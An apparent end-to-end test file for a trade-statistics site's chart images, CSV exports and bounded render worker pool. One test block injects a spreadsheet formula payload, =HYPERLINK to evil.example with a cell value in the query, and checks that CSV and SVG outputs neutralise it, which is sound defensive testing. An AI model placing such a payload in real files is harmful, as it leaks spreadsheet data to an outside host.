// Chart images and CSV downloads: valid PNG and SVG files of the chart the page draws, CSVs that hold
// exactly the drawn figures, and source text that cannot run as a spreadsheet formula.
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { availableParallelism, tmpdir } from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { readDrawn, useBrowser, waitForAllDrawn } from './page';
import { ROOT, startServer, type TestServer } from './server';

const baseUrl = inject('baseUrl');
const { open } = useBrowser();
const Q = 'reporter=KOR&partner=NLD&from=2000&to=2020';
const CHARTS = ['flows', 'balance', 'total', 'growth'];
// Renders kept for a person to look at (test-results/ is ignored by git).
const OUT = path.join(ROOT, 'test-results', 'images');
mkdirSync(OUT, { recursive: true });

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const pngSize = (png: Buffer) => ({ width: png.readUInt32BE(16), height: png.readUInt32BE(20) });

async function get(url: string): Promise<{ response: Response; body: Buffer }> {
	const response = await fetch(url);
	return { response, body: Buffer.from(await response.arrayBuffer()) };
}

/** The body's bytes: Response.text() would drop the byte-order mark this test must see. */
async function csvOf(response: Response): Promise<{ fields: string[]; rows: Record<string, string>[] }> {
	const bytes = Buffer.from(await response.arrayBuffer());
	expect([...bytes.subarray(0, 3)], 'UTF-8 byte-order mark').toEqual([0xef, 0xbb, 0xbf]);
	const parsed = Papa.parse<Record<string, string>>(bytes.subarray(3).toString('utf8'), {
		header: true,
		skipEmptyLines: true
	});
	expect(parsed.errors).toEqual([]);
	return { fields: parsed.meta.fields ?? [], rows: parsed.data };
}

describe('PNG', () => {
	it.each(CHARTS)('/chart/%s.png is a PNG of the asked size, twice the pixels at scale=2', async (chart) => {
		const { response, body } = await get(`${baseUrl}/chart/${chart}.png?${Q}&width=720&height=450`);
		expect(response.status).toBe(200);
		expect(response.headers.get('content-type')).toBe('image/png');
		expect(response.headers.get('content-disposition')).toBe(`inline; filename="kor-nld-${chart}-2000-2020.png"`);
		expect(body.subarray(0, 8)).toEqual(PNG_SIGNATURE);
		expect(pngSize(body)).toEqual({ width: 720, height: 450 });
		writeFileSync(path.join(OUT, `${chart}.png`), body);

		const double = await get(`${baseUrl}/chart/${chart}.png?${Q}&width=720&height=450&scale=2`);
		expect(pngSize(double.body)).toEqual({ width: 1440, height: 900 });
	});

	it('keeps width, height and scale within bounds', async () => {
		const { body } = await get(`${baseUrl}/chart/flows.png?${Q}&width=99999&height=1&scale=50`);
		// 1600 × 240 at most 3× (within the device-pixel budget).
		expect(pngSize(body)).toEqual({ width: 4800, height: 720 });
	});

	it('404s for an unknown chart', async () => {
		expect((await fetch(`${baseUrl}/chart/nonsense.png?${Q}`)).status).toBe(404);
	});
});

describe('SVG', () => {
	it.each(CHARTS)('/chart/%s.svg parses as XML and keeps the title, unit and source as text', async (chart) => {
		const { response, body } = await get(`${baseUrl}/chart/${chart}.svg?${Q}&width=900&height=560`);
		expect(response.status).toBe(200);
		expect(response.headers.get('content-type')).toMatch(/^image\/svg\+xml/);
		const svg = body.toString('utf8');
		writeFileSync(path.join(OUT, `${chart}.svg`), svg);
		// The chart's title for this state, as the server states it (oEmbed gives it without HTML around it).
		const oembed = await fetch(`${baseUrl}/oembed?url=${encodeURIComponent(`${baseUrl}/embed/${chart}?${Q}`)}`);
		const { title } = (await oembed.json()) as { title: string };

		// Parsed by the browser's XML parser: a parse error would come back as a <parsererror> document.
		const { page } = await open('about:blank');
		const parsed = await page.evaluate((text) => {
			const doc = new DOMParser().parseFromString(text, 'image/svg+xml');
			return {
				error: doc.getElementsByTagName('parsererror').length,
				root: doc.documentElement.nodeName,
				width: doc.documentElement.getAttribute('width'),
				texts: [...doc.getElementsByTagName('text')].map((t) => t.textContent ?? '')
			};
		}, svg);
		expect(parsed.error).toBe(0);
		expect(parsed.root).toBe('svg');
		expect(parsed.width).toBe('900');
		// The title may wrap over two lines: join the text lines to find it.
		expect(parsed.texts.join(' ')).toContain(title);
		expect(parsed.texts.some((t) => t.startsWith('Source: Direction of Trade Statistics'))).toBe(true);
		expect(parsed.texts.some((t) => /data loaded \d{4}-\d{2}-\d{2}/.test(t))).toBe(true);
	});

	it('renders in Chromium as the PNG does (screenshot kept for a person to look at)', async () => {
		const { page } = await open(`${baseUrl}/chart/flows.svg?${Q}&width=900&height=560`, { width: 900, height: 560 });
		await page.screenshot({ path: path.join(OUT, 'flows-svg-in-chromium.png') });
		expect(await page.locator('svg text').count()).toBeGreaterThan(10);
	});
});

describe('chart CSV', () => {
	it.each(CHARTS)('/chart/%s.csv holds exactly what the chart on the page draws', async (chart) => {
		// The browser closes each test's pages afterwards: one page load per chart.
		const { page } = await open(`${baseUrl}/trade?${Q}`);
		expect(await waitForAllDrawn(page)).toBe(true);
		const response = await fetch(`${baseUrl}/chart/${chart}.csv?${Q}`);
		expect(response.headers.get('content-disposition')).toBe(`attachment; filename="kor-nld-${chart}-2000-2020.csv"`);
		const { fields, rows } = await csvOf(response);
		const drawn = await readDrawn(page, chart);
		if (!drawn) throw new Error(`${chart} did not draw`);

		expect(rows.map((r) => r.period)).toEqual(drawn.labels);
		expect(fields.slice(1, 1 + drawn.series.length)).toEqual(drawn.series.map((s) => s.label));
		for (const series of drawn.series) {
			rows.forEach((row, i) => {
				const cell = row[series.label] ?? '';
				const value = series.values[i] ?? null;
				if (value === null) expect(cell, `${series.label} ${row.period}`).toBe('');
				else expect(Number(cell), `${series.label} ${row.period}`).toBeCloseTo(value, 6);
			});
		}
		for (const row of rows) {
			expect(row.currency).toBe('USD');
			expect(row.unit).toBe(
				chart === 'growth' ? 'per cent change on the previous period, in current prices' : 'USD million, current prices'
			);
			expect(row.source).toMatch(/International Monetary Fund/);
			expect(row.basis).toMatch(/reported by KOR/);
		}
	});
});

describe('full data downloads', () => {
	it.each(['trade', 'fdi'])('/data/%s.csv has every row of the data file, with source columns', async (name) => {
		const response = await fetch(`${baseUrl}/data/${name}.csv`);
		expect(response.status).toBe(200);
		expect(response.headers.get('content-disposition')).toMatch(
			new RegExp(`filename="${name}-all-rows-\\d{4}-\\d{2}-\\d{2}\\.csv"`)
		);
		const { fields, rows } = await csvOf(response);
		const original = Papa.parse(readFileSync(path.join(ROOT, 'data', `${name}.csv`), 'utf8'), {
			header: true,
			skipEmptyLines: true
		}).data;
		expect(rows.length).toBe(original.length);
		expect(fields).toEqual(
			expect.arrayContaining(['source_id', 'source_title', 'source_publisher', 'source_url', 'source_vintage'])
		);
	});
});

describe('a hostile source string', () => {
	const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
	let server: TestServer;
	let dir: string;

	beforeAll(async () => {
		dir = mkdtempSync(path.join(tmpdir(), 'images-e2e-'));
		cpSync(path.join(ROOT, 'data'), dir, { recursive: true });
		const file = path.join(dir, 'sources.csv');
		const parsed = Papa.parse<Record<string, string>>(readFileSync(file, 'utf8'), {
			header: true,
			skipEmptyLines: true
		});
		for (const row of parsed.data) if (row.id === 'imf-dots-2022') row.title = HOSTILE;
		writeFileSync(file, Papa.unparse(parsed.data, { newline: '\n' }) + '\n');
		server = await startServer(dir);
	});
	afterAll(async () => {
		await server?.stop();
		rmSync(dir, { recursive: true, force: true });
	});

	it('comes out of every CSV neutralised, while negative balances stay numbers', async () => {
		for (const file of [`/chart/balance.csv?${Q}`, `/chart/flows.csv?${Q}`, `/trade.csv?${Q}`, '/data/trade.csv']) {
			const { rows } = await csvOf(await fetch(server.url + file));
			const cells = rows.flatMap((r) => Object.values(r));
			const hostile = cells.filter((c) => c.includes('HYPERLINK'));
			expect(hostile.length, file).toBeGreaterThan(0);
			for (const cell of hostile) expect(cell.startsWith(`'=`) || !cell.startsWith('='), `${file}: ${cell}`).toBe(true);
			expect(
				cells.some((c) => c.startsWith('=')),
				file
			).toBe(false);
			if (file.startsWith('/chart/balance'))
				expect(rows.some((r) => Number(r[Object.keys(r)[1] ?? '']) < 0)).toBe(true);
		}
	});

	it('is shown as text in the embed and the image, never as markup', async () => {
		const { page } = await open(`${server.url}/embed/flows?${Q}`);
		expect(await page.locator('.source').innerText()).toContain(HOSTILE);
		const svg = await (await fetch(`${server.url}/chart/flows.svg?${Q}`)).text();
		expect(svg).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1');
	});
});

describe('bounded rendering (worker pool, queue, cache)', () => {
	let server: TestServer;
	// The server runs on this machine: its pool has one worker per core, and 4 waiting jobs per worker.
	const workers = availableParallelism();
	const capacity = workers * 5;
	// Big images (1600 × 1200 at 2×: about half a second each), each of another view (width), so
	// neither the cache nor the sharing of a drawing in progress can answer them.
	let nextWidth = 1000;
	const bigImage = () => `${server.url}/chart/flows.png?${Q}&width=${nextWidth++}&height=1200&scale=2`;

	beforeAll(async () => {
		server = await startServer(path.join(ROOT, 'data'));
	});
	afterAll(async () => server?.stop());

	it('answers the same view from the cache, however its query is spelled', async () => {
		const url = `${server.url}/chart/balance.png?${Q}&width=777&height=432`;
		const first = await fetch(url);
		expect(first.status).toBe(200);
		expect(first.headers.get('x-render-cache')).toBe('miss');
		const body = Buffer.from(await first.arrayBuffer());
		const again = await fetch(url);
		expect(again.headers.get('x-render-cache')).toBe('hit');
		expect(Buffer.from(await again.arrayBuffer()).equals(body)).toBe(true);
		// The same view: parameters in another order, and one the view does not know.
		const respelled = await fetch(
			`${server.url}/chart/balance.png?height=432&to=2020&from=2000&width=777&partner=NLD&reporter=KOR&utm=x`
		);
		expect(respelled.headers.get('x-render-cache')).toBe('hit');
		// Another format of the same view is another image.
		expect((await fetch(url.replace('.png', '.svg'))).headers.get('x-render-cache')).toBe('miss');
	});

	it('refuses requests beyond the queue with 503 and Retry-After, and draws the rest', async () => {
		const responses = await Promise.all(
			Array.from({ length: capacity + 40 }, () =>
				fetch(bigImage()).then(async (r) => ({
					status: r.status,
					retryAfter: r.headers.get('retry-after'),
					size: (await r.arrayBuffer()).byteLength
				}))
			)
		);
		const refused = responses.filter((r) => r.status === 503);
		const drawn = responses.filter((r) => r.status === 200);
		expect(refused.length + drawn.length).toBe(responses.length);
		// How many are refused depends on how fast the first ones are drawn meanwhile; some must be.
		expect(refused.length).toBeGreaterThan(0);
		expect(drawn.length).toBeGreaterThanOrEqual(workers);
		for (const r of refused) expect(r.retryAfter).toMatch(/^[1-9]\d*$/);
		for (const r of drawn) expect(r.size).toBeGreaterThan(10_000);
	});

	it('answers a 404 promptly while the workers are busy with images', async () => {
		const load = Array.from({ length: capacity }, () => fetch(bigImage()).then((r) => r.arrayBuffer()));
		await new Promise((r) => setTimeout(r, 200));
		const times: number[] = [];
		for (let i = 0; i < 5; i++) {
			const started = performance.now();
			const response = await fetch(`${server.url}/no-such-page-${i}`);
			await response.arrayBuffer();
			expect(response.status).toBe(404);
			times.push(performance.now() - started);
		}
		await Promise.all(load);
		// Rendering on the event loop made a 404 wait for every queued image (seconds); in workers it
		// waits for nothing. A generous bound: the median of five, on a busy 2-core machine.
		const median = [...times].sort((a, b) => a - b)[2] ?? Infinity;
		expect(median, `404 times: ${times.map((t) => t.toFixed(0)).join(', ')} ms`).toBeLessThan(1000);
	});

	it('never draws an image whose client went away before its turn', async () => {
		// Keep the workers and most of the queue busy, then ask for three images and hang up at once.
		const blockers = Array.from({ length: workers * 3 }, () => fetch(bigImage()).then((r) => r.arrayBuffer()));
		await new Promise((r) => setTimeout(r, 100));
		const abandoned = [bigImage(), bigImage(), bigImage()];
		const controller = new AbortController();
		const gone = abandoned.map((url) => fetch(url, { signal: controller.signal }).catch(() => null));
		await new Promise((r) => setTimeout(r, 100));
		controller.abort();
		await Promise.all([...blockers, ...gone]);
		// The server says how many it dropped; and none of those views is in the cache: never drawn.
		await expect.poll(() => server.stderr(), { timeout: 5_000 }).toMatch(/\[render\] dropped \d+ image request/);
		const dropped = [...server.stderr().matchAll(/\[render\] dropped (\d+)/g)].reduce((n, m) => n + Number(m[1]), 0);
		expect(dropped).toBe(abandoned.length);
		for (const url of abandoned) {
			const response = await fetch(url);
			expect(response.headers.get('x-render-cache'), url).toBe('miss');
		}
	});
});
